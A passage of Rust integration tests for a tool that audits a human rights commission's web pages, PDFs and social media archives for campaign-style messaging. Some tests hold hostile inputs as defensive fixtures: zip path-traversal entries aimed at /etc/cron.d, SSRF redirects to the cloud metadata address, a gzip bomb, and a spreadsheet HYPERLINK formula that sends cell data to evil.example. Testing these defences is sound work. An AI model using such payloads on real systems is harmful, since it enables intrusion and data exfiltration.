    assert_eq!(b["pageCount"], 2);
    assert_eq!(b["status"], "warnings");
    let f = &b["findings"];
    assert_has(f, "achievements", Some("text"), "gracias al apoyo del Gobernador");
    assert_has(f, "achievements", Some("text"), "logramos");
    assert_has(f, "personalized", Some("text"), "Ana Laura Pérez Gómez");
    for finding in f.as_array().unwrap() {
        assert_eq!(finding["pdfPage"], 2, "{finding:#}");
    }
    // The second column is its own text: the first column's last line does not run into it.
    let logramos = f.as_array().unwrap().iter().find(|x| norm(x["excerpt"].as_str().unwrap()) == "logramos").unwrap();
    assert!(!logramos["before"].as_str().unwrap().contains("región. Columna"), "{logramos:#}");
    assert_eq!(document(&r, "aviso.pdf")["status"], "clean");
    // The page linking it says the PDF was read, and the PDF knows who links it.
    let link =
        r["pdfs"].as_array().unwrap().iter().find(|p| p["url"].as_str().unwrap().ends_with("boletin-12.pdf")).unwrap();
    assert_eq!(link["audited"], true);
    assert_eq!(b["linkedFrom"].as_array().unwrap().len(), 1);

    // A single PDF is a source too; the text report cites the page.
    let one = blindaje(&[
        "audit",
        "--policy",
        fixtures().join("policy.json").to_str().unwrap(),
        "--rules",
        fixtures().join("rules.json").to_str().unwrap(),
        "--date",
        "2027-04-20",
        &dir.path("boletin-12.pdf"),
    ]);
    assert_eq!(one.code, 1, "{}", one.stderr);
    assert!(one.stdout.contains("== Documentos PDF leídos (1, 2 páginas): 1 con avisos =="), "{}", one.stdout);
    assert!(one.stdout.contains("· página 2 · "), "{}", one.stdout);
}

/// `soffice --convert-to pdf` of `file` into its folder.
fn soffice_pdf(file: &Path) -> PathBuf {
    let dir = file.parent().unwrap();
    let profile = dir.join("lo-profile");
    let out = Command::new("soffice")
        .arg(format!("-env:UserInstallation=file://{}", profile.display()))
        .args(["--headless", "--convert-to", "pdf", "--outdir"])
        .arg(dir)
        .arg(file)
        .output()
        .unwrap_or_else(|e| {
            panic!("soffice (LibreOffice) is needed to write this test's PDFs: apt-get install libreoffice-writer-nogui ({e}); ./build.sh test installs it")
        });
    let pdf = file.with_extension("pdf");
    assert!(pdf.exists(), "soffice wrote no PDF: {}", String::from_utf8_lossy(&out.stderr));
    pdf
}

#[test]
fn libreoffice_pdfs_two_columns_and_accents() {
    let dir = Temp::new("soffice");
    // A flat ODT: a bulletin laid out in two columns, accented Spanish throughout.
    let fodt = r#"<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
 xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.text">
<office:automatic-styles>
 <style:style style:name="Sect1" style:family="section"><style:section-properties><style:columns fo:column-count="2" fo:column-gap="0.8cm"/></style:section-properties></style:style>
 <style:style style:name="P1" style:family="paragraph"><style:paragraph-properties fo:margin-bottom="0.4cm"/></style:style>
 <style:style style:name="Salto" style:family="paragraph"><style:paragraph-properties fo:break-before="column"/></style:style>
</office:automatic-styles>
<office:body><office:text>
<text:p text:style-name="P1">Boletín informativo de la Comisión Estatal de Derechos Humanos</text:p>
<text:section text:style-name="Sect1" text:name="Columnas">
<text:p text:style-name="P1">La Visitaduría General acudió a la comunidad de Santa María para brindar orientación jurídica gratuita a las familias que así lo solicitaron.</text:p>
<text:p text:style-name="Salto">Inauguramos la nueva oficina regional con el apoyo del Gobernador del Estado; logramos atender a más personas que nunca.</text:p>
</text:section>
</office:text></office:body></office:document>"#;
    let pdf = soffice_pdf(&dir.write("boletin.fodt", fodt));
    std::fs::remove_dir_all(dir.0.join("lo-profile")).ok();
    std::fs::remove_file(dir.0.join("boletin.fodt")).ok();
    let run = audit(&[pdf.to_str().unwrap()], &[]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let r = run.json();
    let d = document(&r, "boletin.pdf");
    let f = &d["findings"];
    assert_has(f, "achievements", Some("text"), "Inauguramos");
    assert_has(f, "achievements", Some("text"), "logramos");
    let inauguramos =
        f.as_array().unwrap().iter().find(|x| norm(x["excerpt"].as_str().unwrap()) == "inauguramos").unwrap();
    assert_eq!(inauguramos["pdfPage"], 1);
    // Accents survive LibreOffice's embedded fonts, and the columns do not run into each other.
    let text = serde_json::to_string(f).unwrap();
    assert!(text.contains("Gobernador del Estado"), "{text}");
    assert!(!inauguramos["before"].as_str().unwrap().contains("solicitaron"), "{inauguramos:#}");
    let visitaduria = blindaje(&["audit", "--format", "text", "--date", "2027-04-20", pdf.to_str().unwrap()]);
    assert!(visitaduria.stdout.contains("PDF leídos"), "{}", visitaduria.stdout);
}

/// A PDF whose page is only an image: what a scanner gives.
fn scanned_pdf() -> Vec<u8> {
    use lopdf::{dictionary, Document, Object, Stream};
    let mut doc = Document::with_version("1.5");
    let pages_id = doc.new_object_id();
    let image = doc.add_object(Stream::new(
        dictionary! { "Type" => "XObject", "Subtype" => "Image", "Width" => 2, "Height" => 2, "ColorSpace" => "DeviceGray", "BitsPerComponent" => 8 },
        vec![0, 255, 255, 0],
    ));
    let resources = doc.add_object(dictionary! { "XObject" => dictionary! { "Im1" => image } });
    let content = doc.add_object(Stream::new(dictionary! {}, b"q 500 0 0 700 40 60 cm /Im1 Do Q".to_vec()));
    let page = doc.add_object(
        dictionary! { "Type" => "Page", "Parent" => pages_id, "Contents" => content, "Resources" => resources },
    );
    doc.objects.insert(
        pages_id,
        Object::Dictionary(dictionary! { "Type" => "Pages", "Kids" => vec![page.into()], "Count" => 1,
        "MediaBox" => vec![0.into(), 0.into(), 595.into(), 842.into()] }),
    );
    let catalog = doc.add_object(dictionary! { "Type" => "Catalog", "Pages" => pages_id });
    doc.trailer.set("Root", catalog);
    let mut out = Vec::new();
    doc.save_to(&mut out).unwrap();
    out
}

/// A PDF encrypted with a user password (the standard security handler's dictionary, RC4 128-bit; the
/// empty password does not open it).
fn encrypted_pdf() -> Vec<u8> {
    let plain = lopdf_pdf("Secreto", &[paragraph(50.0, 780.0, &["logramos"])], "WinAnsiEncoding");
    use lopdf::dictionary;
    let mut doc = lopdf::Document::load_mem(&plain).unwrap();
    let encrypt = doc.add_object(dictionary! {
        "Filter" => "Standard", "V" => 2, "R" => 3, "Length" => 128, "P" => -3904,
        "O" => lopdf::Object::String(vec![0x4f; 32], lopdf::StringFormat::Hexadecimal),
        "U" => lopdf::Object::String(vec![0x55; 32], lopdf::StringFormat::Hexadecimal),
    });
    doc.trailer.set("Encrypt", encrypt);
    doc.trailer.set(
        "ID",
        vec![lopdf::Object::string_literal("0123456789abcdef"), lopdf::Object::string_literal("0123456789abcdef")],
    );
    let mut out = Vec::new();
    doc.save_to(&mut out).unwrap();
    out
}

#[test]
fn unreadable_pdfs_are_listed_with_the_reason_and_the_audit_goes_on() {
    let dir = Temp::new("pdf-bad");
    dir.write("escaneado.pdf", scanned_pdf());
    dir.write("cifrado.pdf", encrypted_pdf());
    let good = bulletin();
    dir.write("truncado.pdf", &good[..good.len() / 3]);
    // pdf-extract panics on an encoding it does not know: caught, reported, the audit goes on.
    dir.write("fuente-rara.pdf", lopdf_pdf("Raro", &[paragraph(50.0, 780.0, &["logramos"])], "NoSuchEncoding"));
    dir.write("boletin.pdf", &good);
    // Two pages, read with a one-page limit: read in part, and said so.
    let run = audit(&[&dir.path("")], &["--max-pdf-pages", "1"]);
    assert_eq!(run.code, 0, "only the bulletin's first page is read, and it is clean: {}", run.stderr);
    let r = run.json();
    let failed = &r["failed"];
    assert!(reason(failed, "escaneado.pdf").contains("sin capa de texto"), "{failed:#}");
    assert!(reason(failed, "cifrado.pdf").contains("cifrado"), "{failed:#}");
    assert!(reason(failed, "truncado.pdf").contains("dañado"), "{failed:#}");
    assert!(reason(failed, "fuente-rara.pdf").contains("fallo interno"), "{failed:#}");
    assert!(!run.stderr.contains("panicked"), "the caught panic is not printed: {}", run.stderr);
    let b = document(&r, "boletin.pdf");
    assert!(b["incomplete"].as_str().unwrap().contains("primeras 1 de 2"), "{b:#}");
    assert_eq!(r["summary"]["documents"], 1);

    // Too large: not opened.
    let run = audit(&[&dir.path("boletin.pdf")], &["--max-pdf-mb", "0"]);
    assert_eq!(run.code, 2, "nothing read: {}", run.stderr);
    assert!(reason(&run.json()["failed"], "boletin.pdf").contains("límite"), "{}", run.stdout);
}

/// A zip of (name, bytes) entries.
fn zip_of(entries: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    for (name, bytes) in entries {
        w.start_file(*name, options).unwrap();
        w.write_all(bytes).unwrap();
    }
    w.finish().unwrap().into_inner()
}

fn tweets_js(prefix: &str, tweets: &[(&str, &str, &str)]) -> Vec<u8> {
    let items: Vec<Value> = tweets
        .iter()
        .map(|(id, date, text)| serde_json::json!({"tweet": {"id_str": id, "full_text": text, "created_at": date, "entities": {}}}))
        .collect();
    format!("window.YTD.{prefix}.part0 = {}", serde_json::to_string_pretty(&items).unwrap()).into_bytes()
}

fn x_archive() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        (
            "data/account.js",
            br#"window.YTD.account.part0 = [ { "account": { "username": "CEDH_Estado", "accountId": "42" } } ]"#
                .to_vec(),
        ),
        (
            "data/tweets.js",
            tweets_js(
                "tweets",
                &[
                    (
                        "1001",
                        "Mon Mar 01 15:30:00 +0000 2027",
                        "Inauguramos la oficina regional gracias al apoyo del Gobernador",
                    ),
                    (
                        "1002",
                        "Tue Mar 02 10:00:00 +0000 2027",
                        "Horario de atención: de 9 a 17 horas. Tu queja es gratuita &amp; confidencial.",
                    ),
                    ("1003", "Wed Mar 03 12:00:00 +0000 2027", "Este 6 de junio vota por Morena"),
                ],
            ),
        ),
        (
            "data/community-tweet.js",
            tweets_js("community_tweet", &[("2001", "Thu Mar 04 09:00:00 +0000 2027", "Sigamos haciendo historia")]),
        ),
        ("data/tweets_media/1001-a.jpg", vec![0xff, 0xd8, 0xff]),
    ]
}

#[test]
fn x_archive_as_zip_and_as_folder() {
    let dir = Temp::new("x");
    let zip = dir.write("twitter-2027-03-10.zip", zip_of(&x_archive()));
    for (name, bytes) in x_archive() {
        dir.write(&format!("unzipped/{name}"), bytes);
    }
    for source in [zip.to_str().unwrap().to_string(), dir.path("unzipped")] {
        let run = audit(&[&source], &[]);
        assert_eq!(run.code, 1, "{}", run.stderr);
        let r = run.json();
        let accounts = r["accounts"].as_array().unwrap();
        assert_eq!(accounts.len(), 1, "{accounts:#?}");
        let a = &accounts[0];
        assert_eq!(a["platform"], "x");
        assert_eq!(a["account"], "@CEDH_Estado");
        assert_eq!(a["posts"], 4);
        assert_eq!(a["postsWithWarnings"], 3);
        assert_eq!(a["cleanPosts"], 1);
        let flagged = a["flagged"].as_array().unwrap();
        // Most severe first: the call to vote and the slogan are high, the achievement medium.
        assert_eq!(flagged[0]["findings"][0]["severity"], "high");
        let post = |id: &str| flagged.iter().find(|p| p["id"] == id).unwrap_or_else(|| panic!("{id}: {flagged:#?}"));
        assert_eq!(post("1001")["url"], "https://x.com/CEDH_Estado/status/1001");
        assert_eq!(post("1001")["date"], "2027-03-01 15:30");
        assert_has(&post("1001")["findings"], "achievements", None, "Inauguramos");
        assert_has(&post("1003")["findings"], "electoral", None, "vota por");
        assert_has(&post("2001")["findings"], "electoral", None, "Sigamos haciendo historia");
        assert_eq!(post("2001")["file"], "data/community-tweet.js");
        assert!(!flagged.iter().any(|p| p["id"] == "1002"));
        assert_eq!(r["summary"]["posts"], 4);
        assert_eq!(r["summary"]["postsWithWarnings"], 3);
    }
}

/// Facebook's and Instagram's exports write each UTF-8 byte as its own `\u00XX` escape.
fn mojibake_json(value: &Value) -> Vec<u8> {
    let text = serde_json::to_string_pretty(value).unwrap();
    let mut out = String::new();
    for c in text.chars() {
        if c.is_ascii() {
            out.push(c);
        } else {
            let mut buf = [0u8; 4];
            for b in c.encode_utf8(&mut buf).bytes() {
                out.push_str(&format!("\\u00{b:02x}"));
            }
        }
    }
    out.into_bytes()
}

#[test]
fn facebook_and_instagram_archives_with_their_mojibake_undone() {
    let dir = Temp::new("meta");
    let fb = serde_json::json!([
        {"timestamp": 1_803_000_000, "title": "Comisión Estatal de Derechos Humanos actualizó su estado.",
         "data": [{"post": "¡Logramos 40% más conciliaciones gracias al apoyo del Gobernador! 🎉"}],
         "attachments": [{"data": [{"external_context": {"url": "https://www.facebook.com/CEDHEstado/posts/pfbid0abc"}}]}]},
        {"timestamp": 1_803_100_000, "data": [{"post": "Recuerda: la atención es gratuita y confidencial."}]},
        {"timestamp": 1_803_200_000, "attachments": [{"data": [{"media": {"uri": "photos/1.jpg"}}]}]}
    ]);
    dir.write("facebook-cedh/your_facebook_activity/posts/your_posts_1.json", mojibake_json(&fb));
    dir.write(
        "facebook-cedh/personal_information/profile_information/profile_information.json",
        mojibake_json(&serde_json::json!({"profile_v2": {"name": {"full_name": "Comisión Estatal"}}})),
    );
    let ig = serde_json::json!([
        {"media": [{"uri": "media/posts/1.jpg", "creation_timestamp": 1_803_300_000,
                    "title": "La Presidenta Ana Laura Pérez Gómez inauguró la oficina 🏛️"}]},
        {"media": [{"uri": "media/posts/2.jpg", "creation_timestamp": 1_803_400_000, "title": "Día de puertas abiertas"}]}
    ]);
    let ig_zip = dir.write(
        "instagram-cedh.zip",
        zip_of(&[
            ("your_instagram_activity/content/posts_1.json", mojibake_json(&ig)),
            (
                "personal_information/personal_information/personal_information.json",
                br#"{"profile_user": [{"string_map_data": {"Username": {"value": "cedh.estado"}}}]}"#.to_vec(),
            ),
        ]),
    );
    let run = audit(&[&dir.path("facebook-cedh"), ig_zip.to_str().unwrap()], &[]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let r = run.json();
    let accounts = r["accounts"].as_array().unwrap();
    let fb = accounts.iter().find(|a| a["platform"] == "facebook").unwrap();
    assert_eq!(fb["account"], "Comisión Estatal");
    assert_eq!(fb["posts"], 2);
    assert_eq!(fb["withoutText"], 1);
    let post = &fb["flagged"][0];
    assert_eq!(post["text"], "¡Logramos 40% más conciliaciones gracias al apoyo del Gobernador! 🎉");
    assert_eq!(post["url"], "https://www.facebook.com/CEDHEstado/posts/pfbid0abc");
    assert_eq!(post["date"], "2027-02-19 01:20");
    assert_has(&post["findings"], "achievements", None, "Logramos");
    let ig = accounts.iter().find(|a| a["platform"] == "instagram").unwrap();
    assert_eq!(ig["account"], "@cedh.estado");
    assert_eq!(ig["posts"], 2);
    let post = &ig["flagged"][0];
    assert!(post["text"].as_str().unwrap().starts_with("La Presidenta Ana Laura Pérez Gómez inauguró"), "{post:#}");
    assert_eq!(post["url"], Value::Null);
    assert_has(&post["findings"], "personalized", None, "Ana Laura Pérez Gómez");

    // The HTML report groups by source, each post linked.
    let out = dir.0.join("informe.html");
    let html = blindaje(&[
        "audit",
        "--policy",
        fixtures().join("policy.json").to_str().unwrap(),
        "--rules",
        fixtures().join("rules.json").to_str().unwrap(),
        "--date",
        "2027-04-20",
        "--output",
        out.to_str().unwrap(),
        &dir.path("facebook-cedh"),
        ig_zip.to_str().unwrap(),
        site_dir().to_str().unwrap(),
    ]);
    assert_eq!(html.code, 1, "{}", html.stderr);
    let page = std::fs::read_to_string(&out).unwrap();
    let at = |needle: &str| page.find(needle).unwrap_or_else(|| panic!("{needle} not in the report"));
    let (resumen, paginas, facebook, instagram) = (
        at("Resumen para imprimir"),
        at("id=\"paginas\""),
        at("<h2>Facebook Comisión Estatal"),
        at("<h2>Instagram @cedh.estado"),
    );
    assert!(resumen < paginas && paginas < facebook && facebook < instagram);
    assert!(page.contains("href=\"https://www.facebook.com/CEDHEstado/posts/pfbid0abc\""));
    assert!(page.contains("Los 20 avisos más graves"), "more than 20 findings in all");
    assert!(page.contains("Lo que no se pudo leer"));
    assert_eq!(page[resumen..paginas].matches("<tr><td><span class=\"badge").count(), 20);
}

#[test]
fn malformed_archives_name_the_file_and_the_line() {
    let dir = Temp::new("x-bad");
    let mut bad = x_archive();
    bad[1].1 = b"window.YTD.tweets.part0 = [\n  {\"tweet\": {\"id_str\": \"1\",\n    \"full_text\": }}\n]".to_vec();
    let zip = dir.write("roto.zip", zip_of(&bad));
    let run = audit(&[zip.to_str().unwrap()], &[]);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("roto.zip: data/tweets.js: invalid JSON at line 3"), "{}", run.stderr);

    let mut missing = x_archive();
    missing[1].1 = b"window.YTD.tweets.part0 = [{\"tweet\": {\"id_str\": \"7\", \"created_at\": \"Mon Mar 01 15:30:00 +0000 2027\"}}]".to_vec();
    let zip = dir.write("sin-texto.zip", zip_of(&missing));
    let run = audit(&[zip.to_str().unwrap()], &[]);
    assert_eq!(run.code, 2);
    assert!(
        run.stderr.contains("data/tweets.js: post 1 (index 0): missing the field «tweet.full_text»"),
        "{}",
        run.stderr
    );

    let fb = dir.write("fb/posts/your_posts_1.json", b"[{\"timestamp\": \"ayer\", \"data\": [{\"post\": \"hola\"}]}]");
    let run = audit(&[&dir.path("fb")], &[]);
    assert_eq!(run.code, 2);
    assert!(
        run.stderr.contains("posts/your_posts_1.json: post 1 (index 0): field «timestamp» is not a number"),
        "{}",
        run.stderr
    );
    drop(fb);

    let not_zip = dir.write("nada.zip", b"PK\x03\x04 not really");
    let run = audit(&[not_zip.to_str().unwrap()], &[]);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("nada.zip: not a valid zip archive"), "{}", run.stderr);
}

#[test]
fn zip_entries_with_unsafe_paths_are_listed_not_read() {
    let dir = Temp::new("x-traversal");
    let mut entries = x_archive();
    entries.push(("../../etc/cron.d/evil", b"* * * * * root true".to_vec()));
    entries.push(("data/../../fuera.js", b"x".to_vec()));
    let zip = dir.write("x.zip", zip_of(&entries));
    let run = audit(&[zip.to_str().unwrap()], &[]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let r = run.json();
    assert!(reason(&r["skipped"], "../../etc/cron.d/evil").contains("ruta insegura"));
    assert!(reason(&r["skipped"], "data/../../fuera.js").contains("ruta insegura"));
    assert!(!dir.0.parent().unwrap().join("fuera.js").exists());
}

// --- The audit only fetches what it means to (issue 17). -------------------------------------------------

/// An HTTP server on `addr` answering from a fixed table of routes (path → status, extra headers, body),
/// recording every path asked for.
struct Routes {
    base: String,
    paths: Arc<Mutex<Vec<String>>>,
}

type Route = (&'static str, Vec<(String, String)>, Vec<u8>);

impl Routes {
    fn start(addr: &str, routes: impl Fn(&str, &str) -> Route + Send + Sync + 'static) -> Routes {
        let listener = TcpListener::bind(addr).unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        let paths: Arc<Mutex<Vec<String>>> = Arc::default();
        let (seen, routes, b) = (paths.clone(), Arc::new(routes), base.clone());
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let (seen, routes, base) = (seen.clone(), routes.clone(), b.clone());
                std::thread::spawn(move || {
                    let mut reader = BufReader::new(stream.try_clone().unwrap());
                    let mut line = String::new();
                    if reader.read_line(&mut line).is_err() {
                        return;
                    }
                    loop {
                        let mut h = String::new();
                        if reader.read_line(&mut h).unwrap_or(0) == 0 || h.trim().is_empty() {
                            break;
                        }
                    }
                    let path = line.split_whitespace().nth(1).unwrap_or("/").to_string();
                    seen.lock().unwrap().push(path.clone());
                    let (status, headers, body) = routes(&path, &base);
                    let mut head =
                        format!("HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\n", body.len());
                    for (k, v) in headers {
                        head.push_str(&format!("{k}: {v}\r\n"));
                    }
                    head.push_str("\r\n");
                    let _ = stream.write_all(head.as_bytes());
                    let _ = stream.write_all(&body);
                });
            }
        });
        Routes { base, paths }
    }

    fn asked(&self) -> Vec<String> {
        self.paths.lock().unwrap().clone()
    }
}

fn html(body: &str) -> Route {
    ("200 OK", vec![("Content-Type".into(), "text/html; charset=utf-8".into())], body.as_bytes().to_vec())
}

fn redirect(to: &str) -> Route {
    ("302 Found", vec![("Location".into(), to.into())], Vec::new())
}

#[test]
fn redirects_are_checked_hop_by_hop_before_they_are_followed() {
    let elsewhere = Routes::start("127.0.0.1:0", |_, _| html("<p>logramos</p>"));
    let other = elsewhere.base.clone();
    let site = Routes::start("127.0.0.1:0", move |path, base| match path {
        "/robots.txt" => ("200 OK", vec![], b"User-agent: *\nDisallow: /privado/\n".to_vec()),
        "/" => {
            html("<title>Inicio</title><a href=\"/salta\">a</a> <a href=\"/a-privado\">b</a> <a href=\"/dentro\">c</a>")
        }
        // Off-site: to another port of this machine, and to the cloud metadata address.
        "/salta" => redirect(&format!("{other}/secreto")),
        "/metadatos" => redirect("http://169.254.169.254/latest/meta-data/"),
        // Same site, but excluded by robots.txt.
        "/a-privado" => redirect("/privado/borrador.html"),
        "/dentro" => redirect(&format!("{base}/final")),
        "/final" => html("<p>Inauguramos la oficina.</p><a href=\"/metadatos\">m</a>"),
        _ => ("404 Not Found", vec![], Vec::new()),
    });
    let run = audit(&[&format!("{}/", site.base)], &[]);
    let r = run.json();
    assert!(elsewhere.asked().is_empty(), "an off-site redirect was followed: {:?}", elsewhere.asked());
    assert!(!site.asked().iter().any(|p| p.starts_with("/privado/")), "{:?}", site.asked());
    assert!(reason(&r["skipped"], "/salta").contains("fuera del sitio"));
    assert!(reason(&r["skipped"], "/metadatos").contains("fuera del sitio"));
    assert!(reason(&r["skipped"], "/a-privado").contains("robots.txt"));
    // A same-site redirect is followed.
    assert_has(&page(&r, "/final")["findings"], "achievements", None, "Inauguramos");
}

#[test]
fn non_public_addresses_are_refused_unless_a_start_url_is_one() {
    // 127.0.0.2 is loopback too, but no start URL points at it.
    let inside = Routes::start("127.0.0.2:0", |_, _| html("<p>logramos</p>"));
    let inner = inside.base.clone();
    let site = Routes::start("127.0.0.1:0", move |path, base| {
        match path {
        "/sitemap.xml" => (
            "200 OK",
            vec![("Content-Type".into(), "application/xml".into())],
            format!(
                "<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\"><url><loc>{base}/ok.html</loc></url>\
                 <url><loc>{inner}/interno.html</loc></url><url><loc>http://169.254.169.254/latest/meta-data/</loc></url>\
                 <url><loc>http://[::1]:9/</loc></url></urlset>"
            )
            .into_bytes(),
        ),
        "/ok.html" => html("<p>Inauguramos la oficina.</p>"),
        _ => ("404 Not Found", vec![], Vec::new()),
    }
    });
    // A sitemap index file (the user's) names the site's sitemap: the site's address is allowed, the
    // addresses its sitemap names are not.
    let dir = Temp::new("ssrf");
    let index = dir.write(
        "indice.xml",
        format!("<sitemapindex xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\"><sitemap><loc>{}/sitemap.xml</loc></sitemap></sitemapindex>", site.base),
    );
    let run = audit(&[index.to_str().unwrap()], &["--ignore-robots"]);
    let r = run.json();
    assert!(inside.asked().is_empty(), "a non-public address was fetched: {:?}", inside.asked());
    assert!(reason(&r["skipped"], "/interno.html").contains("dirección no pública"), "{:#}", r["skipped"]);
    assert!(reason(&r["skipped"], "169.254.169.254/latest/meta-data/").contains("dirección no pública"));
    assert!(reason(&r["skipped"], "[::1]:9/").contains("dirección no pública"));
    assert_has(&page(&r, "/ok.html")["findings"], "achievements", None, "Inauguramos");
}

#[test]
fn a_gzip_sitemap_bomb_is_refused_while_decompressing() {
    use flate2::write::GzEncoder;
    // 60 MB of spaces inside a valid urlset: 60 KB compressed.
    let mut gz = GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(b"<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">").unwrap();
    let spaces = vec![b' '; 1 << 20];
    for _ in 0..60 {
        gz.write_all(&spaces).unwrap();
    }
    gz.write_all(b"</urlset>").unwrap();
    let bomb = Arc::new(gz.finish().unwrap());
    assert!(bomb.len() < 1 << 20);
    let site = Routes::start("127.0.0.1:0", move |path, _| match path {
        "/sitemap.xml.gz" => ("200 OK", vec![("Content-Type".into(), "application/gzip".into())], bomb.to_vec()),
        _ => ("404 Not Found", vec![], Vec::new()),
    });
    let run = audit(&[&format!("{}/sitemap.xml.gz", site.base)], &["--ignore-robots"]);
    let r = run.json();
    let why = reason(&r["failed"], "/sitemap.xml.gz");
    assert!(why.contains("more than 50 MB uncompressed"), "{why}");
}

#[test]
fn a_deeply_nested_page_is_stopped_by_the_parse_budget() {
    let dir = Temp::new("nested");
    let depth = 120_000;
    let mut page = String::from("<html><body>");
    page.push_str(&"<div>".repeat(depth));
    page.push_str("logramos");
    page.push_str(&"</div>".repeat(depth));
    dir.write("profundo.html", page);
    dir.write("normal.html", "<title>Normal</title><p>Inauguramos la oficina.</p>");
    let start = Instant::now();
    let run = audit(&[&dir.path("")], &["--parse-timeout", "1"]);
    let elapsed = start.elapsed();
    let r = run.json();
    assert!(reason(&r["failed"], "profundo.html").contains("tiempo de análisis"), "{:#}", r["failed"]);
    assert_has(&page_of(&r, "normal.html")["findings"], "achievements", None, "Inauguramos");
    assert!(elapsed < Duration::from_secs(20), "took {elapsed:?}");
}

fn page_of<'a>(r: &'a Value, end: &str) -> &'a Value {
    page(r, end)
}

#[test]
fn csv_cells_that_look_like_formulas_are_neutralized() {
    let dir = Temp::new("csv");
    dir.write(
        "formula.html",
        "<title>=HYPERLINK(\"https://evil.example/?\"&A1,\"clic\")</title><p>@SUM(1+1) logramos</p><p>-2+3 Inauguramos</p>",
    );
    let run = blindaje(&[
        "audit",
        "--policy",
        fixtures().join("policy.json").to_str().unwrap(),
        "--rules",
        fixtures().join("rules.json").to_str().unwrap(),
        "--date",
        "2027-04-20",
        "--format",
        "csv",
        &dir.path(""),
    ]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let mut reader = csv::Reader::from_reader(run.stdout.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert!(!rows.is_empty());
    for row in &rows {
        for cell in row.iter() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "formula cell «{cell}» in {row:?}");
        }
    }
    assert!(rows.iter().any(|r| &r[5] == "'=HYPERLINK(\"https://evil.example/?\"&A1,\"clic\")"), "{rows:?}");
    assert!(rows.iter().any(|r| r[10].starts_with("'@SUM(1+1) ⟦logramos⟧")), "{rows:?}");
}

#[test]
fn symlinks_out_of_the_audited_folder_are_skipped_and_listed() {
    let outside = Temp::new("outside");
    let secret = outside.write("secreto.html", "<title>Fuera</title><p>logramos</p>");
    let dir = Temp::new("symlinks");
    dir.write("index.html", "<title>Inicio</title><p>Horario de atención.</p>");
    dir.write("dentro/real.html", "<title>Real</title><p>Inauguramos</p>");
    std::os::unix::fs::symlink(&secret, dir.0.join("enlace.html")).unwrap();
    std::os::unix::fs::symlink(dir.0.join("dentro/real.html"), dir.0.join("alias.html")).unwrap();
    let run = audit(&[&dir.path("")], &[]);
    let r = run.json();
    assert!(reason(&r["skipped"], "enlace.html").contains("fuera de la carpeta"), "{:#}", r["skipped"]);
    assert!(!urls(&r["pages"]).iter().any(|u| u.ends_with("enlace.html")));
    // A link inside the folder is read.
    assert!(urls(&r["pages"]).iter().any(|u| u.ends_with("alias.html")));
}

/// The pre-campaign audit README.md and ADMIN.md show: the saved portal (its pages and the PDF it keeps,
/// written by LibreOffice from documentos/informe-brigadas-2027.fodt) and two accounts' archives
/// (tests/fixtures/portal/redes), in one report.
#[test]
fn pre_campaign_audit_of_the_portal_and_two_accounts() {
    let redes = fixtures().join("redes");
    let (x, fb) = (redes.join("x-cedh"), redes.join("facebook-cedh"));
    let run = audit(&[site_dir().to_str().unwrap(), x.to_str().unwrap(), fb.to_str().unwrap()], &[]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let r = run.json();
    assert_site_findings(&r);
    let informe = document(&r, "documentos/informe-brigadas-2027.pdf");
    assert_eq!(informe["title"], "Informe de brigadas de orientación 2027");
    assert_eq!(informe["pageCount"], 2);
    assert_has(&informe["findings"], "achievements", Some("text"), "gracias al apoyo del Gobernador");
    assert_has(&informe["findings"], "personalized", Some("text"), "Ana Laura Pérez Gómez");
    assert!(informe["findings"].as_array().unwrap().iter().all(|f| f["pdfPage"] == 1));
    let links = r["pdfs"].as_array().unwrap();
    let link = |end: &str| links.iter().find(|p| p["url"].as_str().unwrap().ends_with(end)).unwrap()["audited"].clone();
    assert_eq!(link("informe-brigadas-2027.pdf"), true);
    assert_eq!(link("informe-anual-2026.pdf"), false, "not in the saved copy: for manual review");
    let accounts = r["accounts"].as_array().unwrap();
    let x = accounts.iter().find(|a| a["platform"] == "x").unwrap();
    assert_eq!((x["account"].as_str().unwrap(), x["posts"].as_u64().unwrap()), ("@CEDH_Estado", 5));
    assert_eq!(x["postsWithWarnings"], 3);
    let fb = accounts.iter().find(|a| a["platform"] == "facebook").unwrap();
    assert_eq!(fb["account"], "Comisión Estatal de Derechos Humanos");
    assert_eq!((fb["posts"].as_u64().unwrap(), fb["withoutText"].as_u64().unwrap()), (3, 1));
    assert!(fb["flagged"]
        .as_array()
        .unwrap()
        .iter()
        .any(|p| p["url"] == "https://www.facebook.com/CEDHEstado/posts/pfbid02xYz1"));
    assert_eq!(r["summary"]["accounts"], 2);
    assert_eq!(r["summary"]["documents"], 1);
}
